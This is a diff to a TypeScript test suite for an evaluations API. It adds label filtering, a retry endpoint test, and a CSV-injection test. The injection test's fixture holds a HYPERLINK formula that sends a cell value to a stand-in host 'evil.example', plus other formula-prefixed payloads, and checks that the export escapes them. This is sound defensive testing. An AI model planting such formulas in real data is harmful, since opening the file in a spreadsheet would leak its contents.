@@ -6,6 +6,7 @@ import { getQueue } from "@loraboard/queue/server";
 import { GET as listRoute, POST as createRoute } from "@/app/api/evaluations/route";
 import { GET as getRoute } from "@/app/api/evaluations/[id]/route";
 import { GET as predictionsRoute } from "@/app/api/evaluations/[id]/predictions/route";
+import { POST as retryRoute } from "@/app/api/evaluations/[id]/retry/route";
 import { apiRequest, routeParams } from "../../../../../tests/helpers/api";
 import { createDataset } from "../../../../../tests/helpers/factories";
 
@@ -47,10 +48,10 @@ describe("evaluations API", () => {
     const evaluation = await getDb().evaluation.create({ data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 4, status: "succeeded" } });
     await getDb().prediction.createMany({
       data: [
-        { evaluationId: evaluation.id, index: 1, sentence: "好评, \"真好\"", label: 1, predicted: 1, output: "积极" },
-        { evaluationId: evaluation.id, index: 2, sentence: "差评", label: 0, predicted: 1, output: "积极" },
-        { evaluationId: evaluation.id, index: 3, sentence: "一般", label: 0, predicted: null, output: "嗯" },
-        { evaluationId: evaluation.id, index: 4, sentence: "还行", label: 1, predicted: 1, output: "积极" },
+        { evaluationId: evaluation.id, index: 1, sentence: "好评, \"真好\"", label: "1", predicted: "1", output: "积极" },
+        { evaluationId: evaluation.id, index: 2, sentence: "差评", label: "0", predicted: "1", output: "积极" },
+        { evaluationId: evaluation.id, index: 3, sentence: "一般", label: "0", predicted: null, output: "嗯" },
+        { evaluationId: evaluation.id, index: 4, sentence: "还行", label: "1", predicted: "1", output: "积极" },
       ],
     });
     const page = async (query: string) =>
@@ -60,6 +61,8 @@ describe("evaluations API", () => {
     expect((await page("filter=wrong")).items.map((p: { index: number }) => p.index)).toEqual([2, 3]);
     expect((await page("filter=invalid")).items).toEqual([{ index: 3, sentence: "一般", label: 0, predicted: null, output: "嗯" }]);
     expect((await page("q=差")).items.map((p: { index: number }) => p.index)).toEqual([2]);
+    expect((await page("filter=wrong&label=0")).items.map((p: { index: number }) => p.index)).toEqual([2, 3]);
+    expect((await page("label=1")).total).toBe(2);
 
     const csv = await predictionsRoute(apiRequest(`/api/evaluations/${evaluation.id}/predictions?format=csv`), routeParams({ id: evaluation.id }));
     expect(csv.headers.get("content-type")).toContain("text/csv");
@@ -70,5 +73,44 @@ describe("evaluations API", () => {
 
     const missing = await getRoute(apiRequest("/api/evaluations/none"), routeParams({ id: "none" }));
     expect(missing.status).toBe(404);
+  });
+
+  it("neutralises formula-like sentences and model outputs in the CSV export (CSV injection)", async () => {
+    const dataset = await createDataset();
+    const evaluation = await getDb().evaluation.create({ data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 2, status: "succeeded" } });
+    await getDb().prediction.createMany({
+      data: [
+        { evaluationId: evaluation.id, index: 1, sentence: '=HYPERLINK("http://evil.example/?x="&B3,"点")', label: "1", predicted: "1", output: "@SUM(1,2)" },
+        { evaluationId: evaluation.id, index: 2, sentence: "\t+1+cmd", label: "0", predicted: null, output: "-2+3" },
+      ],
+    });
+    const csv = await predictionsRoute(apiRequest(`/api/evaluations/${evaluation.id}/predictions?format=csv`), routeParams({ id: evaluation.id }));
+    const lines = (await csv.text()).trim().split("\r\n");
+    expect(lines[1]).toBe(`1,"'=HYPERLINK(""http://evil.example/?x=""&B3,""点"")",1,1,1,"'@SUM(1,2)"`);
+    expect(lines[2]).toBe(`2,"'\t+1+cmd",0,,0,"'-2+3"`);
+  });
+
+  it("retries a failed evaluation from where it stopped, keeping the stored predictions (issue 16 item 9)", async () => {
+    const dataset = await createDataset();
+    const error = { code: "inference_unavailable", message: "The inference server refused a completion: connect ECONNREFUSED" };
+    const evaluation = await getDb().evaluation.create({
+      data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 6, status: "failed", completed: 2, error, finishedAt: new Date() },
+    });
+    await getDb().prediction.createMany({
+      data: [1, 2].map((index) => ({ evaluationId: evaluation.id, index, sentence: "好", label: "1", predicted: "1", output: "积极" })),
+    });
+    const retry = (id: string) => retryRoute(apiRequest(`/api/evaluations/${id}/retry`, { method: "POST" }), routeParams({ id }));
+    const response = await retry(evaluation.id);
+    expect(response.status).toBe(202);
+    expect(Evaluation.parse(await response.json())).toMatchObject({ status: "queued", completed: 2, error: null, finishedAt: null });
+    expect(await getDb().prediction.count({ where: { evaluationId: evaluation.id } })).toBe(2);
+    const queued = await getQueue(QueueName.evaluate).getJobs(["waiting"]);
+    expect(queued.map((job) => job.data)).toContainEqual({ evaluationId: evaluation.id });
+    // Queued now: a second retry (a double click) is refused, not enqueued twice.
+    const again = await retry(evaluation.id);
+    expect(again.status).toBe(409);
+    expect((await again.json()).error.code).toBe("not_retryable");
+    expect((await retry("none")).status).toBe(404);
+    await getQueue(QueueName.evaluate).obliterate({ force: true });
   });
 });
